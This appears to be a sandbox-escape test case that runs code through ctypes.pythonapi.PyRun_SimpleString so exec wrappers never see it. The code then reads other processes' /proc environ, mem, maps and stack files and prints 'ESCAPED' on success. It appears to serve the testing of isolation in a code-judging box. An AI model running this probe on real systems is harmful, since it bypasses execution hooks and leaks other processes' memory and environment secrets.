# technique: ctypes.pythonapi runs text as Python, behind everything that wraps exec
# source: CPython docs: ctypes.pythonapi, PyRun_SimpleString
# verdict: WA
# invariant: no process of the box but the program can be looked into
# without: seccomp capabilities network read_only_root
import ctypes

ctypes.pythonapi.PyRun_SimpleString(b"""
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) != os.getpid():
        for name in ("environ", "maps", "mem", "auxv", "stack", "syscall"):
            try:
                print("ESCAPED", pid, name, open(f"/proc/{pid}/{name}", "rb").read(200))
            except OSError:
                print("held", name)
""")
